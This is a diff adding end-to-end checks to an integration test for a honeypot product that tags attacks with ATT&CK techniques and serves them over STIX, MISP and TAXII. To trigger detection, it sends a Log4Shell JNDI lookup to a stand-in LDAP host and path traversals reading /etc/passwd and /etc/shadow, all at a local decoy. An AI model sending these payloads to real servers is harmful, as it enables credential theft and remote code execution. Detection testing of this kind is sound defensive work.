@@ -8,7 +8,15 @@
 #     collections, paging objects with limit/next, manifest, versions,
 #     resuming with added_after, token auth.
 # The exports come from the export_sample example over the labelled corpus.
-# Loopback 127.0.91.1:18791. Self-cleaning. Fails on any validation error.
+# Then the product end to end: `decnet validate-rules` exit codes, `decnet
+# serve` with `[attack] rules_dir`, real HTTP exploit requests (curl) from
+# two sources tagged by the serve path's tag worker, the API's techniques,
+# Navigator layer, STIX (stix2-validator) and MISP (PyMISP) downloads, the
+# mounted TAXII 2.1 server read by taxii2-client with an API token
+# (discovery, collections, paging, added_after resume), and rule reload by
+# SIGHUP and the API (a bad set refused, the old one kept).
+# Loopback 127.0.91.1:18791 and 127.0.92.0/24. Self-cleaning. Fails on any
+# validation error.
 set -euo pipefail
 cd "$(dirname "$0")/../.."
 NAME=attack.sh
@@ -38,8 +46,10 @@ SERVE=$(example taxii_serve)
 
 WORK=$(mktemp -d /tmp/attack-interop.XXXXXX)
 PID=""
+SERVE_PID=""
 cleanup() {
     if [ -n "$PID" ]; then kill "$PID" 2>/dev/null || true; wait "$PID" 2>/dev/null || true; fi
+    if [ -n "$SERVE_PID" ]; then kill "$SERVE_PID" 2>/dev/null || true; wait "$SERVE_PID" 2>/dev/null || true; fi
     rm -rf "$WORK"
 }
 trap cleanup EXIT
@@ -169,4 +179,147 @@ patterns = camp.get_objects(type="attack-pattern")["objects"]
 assert patterns and all(p["type"] == "attack-pattern" for p in patterns)
 print(f"campaign collection: {sorted(types)}; {len(patterns)} attack-patterns by match[type]")
 PY
+kill "$PID" 2>/dev/null || true; wait "$PID" 2>/dev/null || true; PID=""
+
+# ---- the product: decnet serve -----------------------------------------
+[ -n "${DECNET_BIN:-}" ] || cargo build -q -p decnet
+BIN=${DECNET_BIN:-target/debug/decnet}
+
+echo "== decnet validate-rules"
+cp -r crates/decnet-attack/rules "$WORK/rules"
+"$BIN" validate-rules "$WORK/rules" || fail "shipped rules do not validate"
+mkdir "$WORK/bad"
+printf '[[rule]]\nid = "x.bad"\nname = "bad"\ntechniques = ["T9999"]\nconfidence = 50\nkind = "command"\ncommand = "x"\n' >"$WORK/bad/bad.toml"
+set +e
+"$BIN" validate-rules "$WORK/bad" 2>"$WORK/bad.err"; rc=$?
+set -e
+cat "$WORK/bad.err"
+[ "$rc" = 2 ] || fail "validate-rules on a bad directory exited $rc, not 2"
+grep -Eq "bad/bad.toml:4: .*T9999" "$WORK/bad.err" || fail "no FILE:LINE: message for the unknown technique"
+
+NET=127.0.92
+API=127.0.0.1:$(( 18800 + RANDOM % 500 ))
+PW=attack-interop-pw
+printf '[general]\nnet = %s.0/24\nmode = loopback\n\n[attack]\nrules_dir = rules\n\n[web01]\nip = %s.10\nservices = http\n' \
+    "$NET" "$NET" >"$WORK/fleet.ini"
+"$BIN" validate "$WORK/fleet.ini" | grep -q "ATT&CK rules" || fail "validate does not check the rules in use"
+DECNET_ADMIN_PASSWORD=$PW DECNET_JWT_SECRET=attack-interop-secret-0123456789abcdef \
+    "$BIN" serve --config "$WORK/fleet.ini" --data-dir "$WORK/data" --port-offset 0 --api "$API" \
+    >"$WORK/serve.out" 2>&1 &
+SERVE_PID=$!
+for _ in $(seq 1 150); do
+    (exec 3<>"/dev/tcp/${API%:*}/${API#*:}") 2>/dev/null && (exec 3<>"/dev/tcp/$NET.10/80") 2>/dev/null && break
+    kill -0 "$SERVE_PID" 2>/dev/null || { cat "$WORK/serve.out"; fail "serve died"; }
+    sleep 0.1
+done
+
+echo "== exploit requests (curl) from two sources, then the API and TAXII"
+curl -s -o /dev/null --path-as-is --interface $NET.201 "http://$NET.10/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd" || true
+curl -s -o /dev/null --interface $NET.201 -A '${jndi:ldap://203.0.113.9:1389/a}' "http://$NET.10/" || true
+
+python3 - "http://$API" "$PW" "$NET" "$WORK" "$SERVE_PID" <<'PY' || { tail -n 30 "$WORK/serve.out"; fail "product ATT&CK/TAXII checks"; }
+import os, signal, subprocess, sys, time
+import requests
+from taxii2client.v21 import Server, as_pages
+from taxii2client.common import TokenAuth
+from stix2validator import validate_string, ValidationOptions
+from pymisp import MISPEvent
+
+base, pw, net, work, serve_pid = sys.argv[1:]
+api = base + "/api/v1"
+tok = requests.post(api + "/auth/login", json={"username": "admin", "password": pw}).json()["access_token"]
+H = {"Authorization": f"Bearer {tok}"}
+
+def wait(what, f, secs=30):
+    end = time.time() + secs
+    while time.time() < end:
+        v = f()
+        if v:
+            return v
+        time.sleep(0.3)
+    raise SystemExit(f"timed out: {what}")
+
+def techniques():
+    r = requests.get(api + "/attack/techniques", headers=H).json()
+    return {t["technique_id"]: t for t in r["techniques"]}
+
+seen = wait("T1190 tagged", lambda: (lambda t: t if "T1190" in t else None)(techniques()))
+print("techniques:", {k: v["count"] for k, v in seen.items()})
+assert requests.get(api + "/attack/techniques").status_code == 401
+
+att = requests.get(api + f"/attackers/{net}.201/techniques", headers=H)
+assert att.status_code == 200 and any(t["technique_id"] == "T1190" for t in att.json()["techniques"]), att.text
+
+bundle = requests.get(api + "/attack/stix", headers=H)
+assert bundle.status_code == 200, bundle.text
+r = validate_string(bundle.text, ValidationOptions(version="2.1"))
+assert r.is_valid, [str(e) for e in r.errors]
+print("fleet STIX bundle valid:", len(bundle.json()["objects"]), "objects")
+e = MISPEvent()
+e.load(requests.get(api + "/attack/misp", headers=H).json())
+assert e.attributes, "MISP event without attributes"
+layer = requests.get(api + "/attack/navigator", headers=H).json()
+assert any(t["techniqueID"] == "T1190" for t in layer["techniques"]), layer
+
+# TAXII 2.1 with the API token.
+url = base + "/taxii2/"
+try:
+    Server(url, auth=TokenAuth("not-a-token")).title
+    raise SystemExit("a bad token was accepted")
+except requests.exceptions.HTTPError as err:
+    assert err.response.status_code == 401, err
+server = Server(url, auth=TokenAuth(tok))
+print("discovery:", server.title)
+root = server.default
+cols = {c.alias: c for c in root.collections}
+assert {"fleet", "indicators"} <= set(cols), list(cols)
+fleet = cols["fleet"]
+
+def all_objects(col, per):
+    out, pages = [], 0
+    for env in as_pages(col.get_objects, per_request=per):
+        pages += 1
+        out += env.get("objects", [])
+    return out, pages
+
+def served():
+    o = all_objects(fleet, 1000)[0]
+    return o if any(x["type"] == "attack-pattern" for x in o) else None
+
+objs = wait("STIX objects served", served, 40)
+types = {o["type"] for o in objs}
+assert {"identity", "threat-actor", "attack-pattern", "indicator", "sighting"} <= types, types
+paged, pages = all_objects(fleet, 3)
+assert sorted(o["id"] for o in paged) == sorted(o["id"] for o in objs), "paging lost or repeated objects"
+assert pages == -(-len(objs) // 3), (pages, len(objs))
+print(f"fleet collection: {len(objs)} objects, {pages} pages of 3")
+manifest = [m for env in as_pages(fleet.get_manifest, per_request=100) for m in env.get("objects", [])]
+last_added = max(m["date_added"] for m in manifest)
+assert fleet.get_objects(added_after=last_added).get("objects", []) == []
+
+# A second attacker later: a client resuming with added_after gets only what is new.
+subprocess.run(["curl", "-s", "-o", "/dev/null", "--path-as-is", "--interface", f"{net}.202",
+                f"http://{net}.10/download?file=../../../../etc/shadow"], check=False)
+new = wait("new objects after added_after",
+           lambda: fleet.get_objects(added_after=last_added).get("objects"), 40)
+assert any(o["type"] == "indicator" and f"{net}.202" in o.get("pattern", "") for o in new), new
+print(f"added_after {last_added}: {len(new)} new objects")
+inds, _ = all_objects(cols["indicators"], 100)
+assert inds and all(o["type"] == "indicator" for o in inds)
+
+# Reload: a bad rule file is refused (SIGHUP and API), the old set stays; fixed → reloaded.
+n = len(requests.get(api + "/attack/rules", headers=H).json()["rules"])
+bad = os.path.join(work, "rules", "zz_bad.toml")
+with open(bad, "w") as f:
+    f.write(open(os.path.join(work, "bad", "bad.toml")).read())
+os.kill(int(serve_pid), signal.SIGHUP)
+r = requests.post(api + "/attack/rules/reload", headers=H, json={})
+assert r.status_code == 422 and any("zz_bad.toml:4:" in x for x in r.json()["errors"]), r.text
+assert len(requests.get(api + "/attack/rules", headers=H).json()["rules"]) == n
+os.remove(bad)
+r = requests.post(api + "/attack/rules/reload", headers=H, json={})
+assert r.status_code == 200 and r.json()["rules"] == n, r.text
+print(f"reload: bad set refused, {n} rules kept; good set reloaded")
+PY
+grep -q "ATT&CK rules not reloaded" "$WORK/serve.out" || fail "SIGHUP reload of a bad set not reported"
 echo "$NAME: all checks passed"
